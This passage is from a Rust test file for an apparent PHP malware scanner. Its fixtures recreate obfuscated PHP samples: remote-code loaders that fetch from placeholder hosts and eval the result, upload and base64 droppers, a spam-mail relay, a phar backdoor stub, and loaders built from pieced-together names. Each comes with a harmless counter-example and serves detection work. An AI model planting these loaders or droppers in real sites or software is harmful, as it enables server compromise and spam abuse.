    assert!(sinks(hidden).contains(&(Why::EvalOfDecoded, Danger::Critical)), "{:?}", sinks(hidden));
    // An object of the file's own fetching class.
    let object = "<?php class Fetcher { function get($url) { $c = curl_init(); curl_setopt($c, CURLOPT_URL, $url);\n\
                  curl_setopt($c, CURLOPT_RETURNTRANSFER, 1); return curl_exec($c); } }\n\
                  $f = new Fetcher(); $code = $f->get($argv[1]); eval('?>' . $code);";
    assert!(sinks(object).contains(&(Why::EvalOfDecoded, Danger::Critical)), "{:?}", sinks(object));
    // A page shown from a written address is not run.
    assert!(sinks("<?php $p = fetch_page('https://example.org/news'); echo htmlspecialchars($p);").is_empty());
}

#[test]
fn an_upload_put_in_place_of_the_script_itself_is_a_dropper() {
    // fresh68's spam mailer updating itself.
    let s = "<?php if (md5($_POST['key']) == $k) { move_uploaded_file($_FILES['update']['tmp_name'], __FILE__); }";
    assert_eq!(sinks(s), [(Why::UploadDropper, Danger::High)]);
}

#[test]
fn a_decoded_script_handed_to_the_files_own_writer_is_a_dropper() {
    // fresh67's mailer spreader: a spam relay kept in base64, written into random folders.
    let relay = "<?php $to = base64_decode($_POST['mailto']); $h = base64_decode($_POST['msgheader']);\n\
                 if (mail($to, $_POST['s'], $_POST['b'], $h)) echo 'sent_ok';";
    let b64 = base64_for_test(relay.as_bytes());
    let s = format!(
        "<?php $fileData = \"{b64}\";\nfunction FileWrite($p, $d) {{ if ($fp = fopen($p, 'w')) {{ fwrite($fp, $d); fclose($fp); }} }}\n\
         FileWrite($dir . '/memoris.php', base64_decode($fileData));"
    );
    assert!(sinks(&s).contains(&(Why::UploadDropper, Danger::High)), "{:?}", sinks(&s));
    // A harmless page kept in base64 and written by the same helper.
    let page = base64_for_test(b"<?php echo 'Under maintenance'; ?>");
    let s = format!(
        "<?php $d = \"{page}\";\nfunction FileWrite($p, $d) {{ $fp = fopen($p, 'w'); fwrite($fp, $d); fclose($fp); }}\n\
         FileWrite(__DIR__ . '/index.php', base64_decode($d));"
    );
    assert!(!sinks(&s).contains(&(Why::UploadDropper, Danger::High)), "{:?}", sinks(&s));
}

fn base64_for_test(b: &[u8]) -> String {
    const A: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::new();
    for c in b.chunks(3) {
        let n = (c[0] as u32) << 16 | (*c.get(1).unwrap_or(&0) as u32) << 8 | *c.get(2).unwrap_or(&0) as u32;
        for k in 0..4 {
            out.push(if k <= c.len() { A[(n >> (18 - 6 * k) & 63) as usize] as char } else { '=' });
        }
    }
    out
}

#[test]
fn a_method_of_an_object_the_file_makes_that_runs_its_argument_is_followed() {
    // Regression: fresh105's loader hides `eval` in a class's method called on an object it
    // makes (`$R = new C(); $R->nvoke($a)`), given a text fetched and decoded.
    let loader = "<?php $a = file_get_contents('https://x.example/wp-admin/js/plugins.js'); $a = base64_decode($a);\n\
                  class C { public function nvoke($p) { eval($p . ''); } }\n$R = new C(); $R->nvoke($a);";
    assert!(sinks(loader).contains(&(Why::EvalOfDecoded, Danger::Critical)), "{:?}", sinks(loader));
    // An object the file does not make (a framework's) with a method of the same name.
    let other = loader.replace("$R = new C(); ", "");
    assert!(!sinks(&other).contains(&(Why::EvalOfDecoded, Danger::Critical)), "{:?}", sinks(&other));
}

#[test]
fn a_written_list_of_character_codes_mapped_to_chr_is_read() {
    // Regression: fresh106's one-line dropper: `eval(implode("", array_map("chr", [...])))`
    // of `move_uploaded_file($_FILES["f"]["tmp_name"], $_FILES["f"]["name"]);`.
    let code = "move_uploaded_file($_FILES[\"f\"][\"tmp_name\"], $_FILES[\"f\"][\"name\"]);";
    let codes: Vec<String> = code.bytes().map(|b| b.to_string()).collect();
    let dropper = format!("<?php eval(implode(\"\", array_map(\"chr\", [{}])));", codes.join(","));
    let found = sinks(&dropper);
    assert!(found.contains(&(Why::EvalOfDecoded, Danger::Critical)), "{found:?}");
    assert!(found.iter().any(|(w, _)| *w == Why::UploadDropper), "{found:?}");
    // Codes of a word printed, not run, are no finding.
    assert!(sinks("<?php echo implode('', array_map('chr', [79, 75]));").is_empty());
}

#[test]
fn a_handler_named_behind_the_applications_prefix_is_no_backdoor() {
    // fresh138's form plugin: `'dhvc_form_action_' . $action` picks one of its own handlers.
    let own = "<?php $a = $_POST['action']; $cb = 'dhvc_form_action_' . $a; if (is_callable($cb)) { call_user_func($cb, $_POST); }";
    assert_eq!(sinks(own), [(Why::DynamicCallFromInput, Danger::Low)]);
    assert_eq!(sinks("<?php $f = 'plugin_do_' . $_GET['x']; $f($_POST);"), [(Why::DynamicCallFromInput, Danger::Low)]);
    // A prefix that starts a dangerous name is still the visitor's pick.
    assert_eq!(
        sinks("<?php $f = 'sys' . $_GET['x']; $f($_GET['c']);"),
        [(Why::DynamicCallFromInput, Danger::Critical)]
    );
    assert_eq!(
        sinks("<?php call_user_func('shell_' . $_GET['x'], $_GET['c']);"),
        [(Why::DynamicCallFromInput, Danger::Critical)]
    );
}

#[test]
fn a_reply_fetched_from_the_makers_site_unserialized_makes_no_property_the_visitors() {
    // fresh138's gallery plugin: demo items fetched by the name the visitor picks, then an
    // include of its own folder's file.
    let src = "<?php class A { public $base_path;\n\
               function f() { $u = 'https://zoomthe.me/getdemo.php?demo=' . $_POST['demo']; $c = file_get_contents($u); $s = unserialize($c); }\n\
               function g() { include_once($this->base_path . 'class_parts/install_sample_data.php'); } }";
    assert!(!sinks(src).iter().any(|(_, d)| *d == Danger::Critical), "{:?}", sinks(src));
    // The request itself unserialized, in a file with no method PHP runs by itself: an
    // import, not an object injection's way in.
    let import = src.replace("$s = unserialize($c);", "$s = unserialize($_POST['o']);");
    assert!(!sinks(&import).iter().any(|(_, d)| *d == Danger::Critical), "{:?}", sinks(&import));
    // With a `__destruct` that includes a property, it is.
    let injected = import.replace("function g()", "function __destruct()");
    assert!(sinks(&injected).contains(&(Why::CodeFromInput, Danger::Critical)), "{:?}", sinks(&injected));
}

#[test]
fn names_extracted_from_a_literal_table_are_those_names() {
    // fresh145's VI_CURRENT_FILE loader over a `Silence is golden` index.
    let s = "<?php $v='M)8T.#(R,&0Y8C)E/2=E3G!.;457=7A6<5-24V54575A6$<R6E';\n\
             extract(array('f'=>'create_function','b'=>'convert_uudecode'));$t=$f('',$b($v));$t();";
    assert!(sinks(s).iter().any(|(_, d)| *d >= Danger::High), "{:?}", sinks(s));
    // An application's settings extracted into a template.
    let own = "<?php extract(array('title' => 'Home', 'lang' => 'en')); echo strtoupper($title);";
    assert!(sinks(own).is_empty(), "{:?}", sinks(own));
}

#[test]
fn an_archive_behind_its_stub_named_in_escapes_is_hidden_code() {
    // fresh148's weevely-style `wev.php`.
    let s = "<?php include \"\\160\\x68\\141\\x72\\72\\57\\57\".basename(__FILE__).\"\\57\\x78\";__HALT_COMPILER(); ?>";
    assert_eq!(sinks(s), [(Why::EvalOfDecoded, Danger::High)]);
    // A tool's own stub.
    let own =
        "<?php Phar::mapPhar('composer.phar'); require 'phar://composer.phar/bin/composer'; __HALT_COMPILER(); ?>";
    assert!(sinks(own).is_empty(), "{:?}", sinks(own));
}

#[test]
fn an_include_through_a_stream_of_the_files_own_is_hidden_code() {
    // fresh152's SEO kit loader: a download served by its own stream class, then included.
    let s = "<?php $GLOBALS['d'] = file_get_contents($u); class V { function stream_read($c) { return $GLOBALS['d']; } }\n\
             $r = 'st' . 'ream_' . 'wrap' . 'per_' . 'reg' . 'ister'; $r('vip', 'V'); include 'vip://m';";
    assert!(sinks(s).contains(&(Why::EvalOfDecoded, Danger::High)), "{:?}", sinks(s));
    // A test's virtual folder, a file of the site.
    assert!(sinks("<?php include 'vfs://root/config.php';").is_empty());
    assert!(sinks("<?php include 'file:///var/www/x.php';").is_empty());
}

#[test]
fn a_fetch_called_back_by_a_pieced_name_then_evaluated_is_found() {
    // Regression: fresh162's `cobacoba.php` spells every name in one-letter pieces and calls
    // them through `call_user_func`.
    let src = "<?php $_u = 'h'.'t'.'t'.'p'.'s'.':'.'/'.'/'.'r'.'a'.'w'.'.'.'e'.'x'.'/'.'s'.'.'.'p'.'h'.'p';\n\
               $_fget = 'f'.'i'.'l'.'e'.'_'.'g'.'e'.'t'.'_'.'c'.'o'.'n'.'t'.'e'.'n'.'t'.'s';\n\
               $_out = @call_user_func($_fget, $_u);\n\
               $_b64 = 'b'.'a'.'s'.'e'.'6'.'4'.'_'.'d'.'e'.'c'.'o'.'d'.'e';\n\
               if ($_out !== false) { eval('?>' . call_user_func($_b64, base64_encode($_out))); }";
    assert_eq!(sinks(src), [(Why::EvalOfDecoded, Danger::Critical)]);
}

#[test]
fn a_page_printed_from_the_internet_into_a_buffer_then_run_is_code_from_the_internet() {
    // Regression: fresh166's `base6644.php`.
    let src = "<?php ob_start(); readfile(base64_decode('aHR0cHM6Ly9leGFtcGxlLm9yZy9hbGZhLnBocA==')); eval('?>' . ob_get_clean());";
    assert!(sinks(src).iter().any(|(w, _)| *w == Why::CodeFromInternet), "{:?}", sinks(src));
    // A template printed from a local file into a buffer and returned is not.
    let local = "<?php ob_start(); readfile(__DIR__ . '/tpl.html'); $html = ob_get_clean(); echo $html;";
    assert!(sinks(local).is_empty(), "{:?}", sinks(local));
}
